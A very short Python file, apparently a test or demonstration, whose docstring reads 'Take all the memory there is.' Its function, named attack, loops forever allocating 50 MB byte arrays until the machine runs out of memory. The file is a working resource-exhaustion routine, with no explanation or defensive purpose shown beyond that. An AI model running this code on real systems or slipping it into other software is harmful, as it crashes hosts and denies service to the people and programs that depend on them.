"""Take all the memory there is."""


def attack():
    taken = []
    while True:
        taken.append(bytearray(b"x") * 50_000_000)
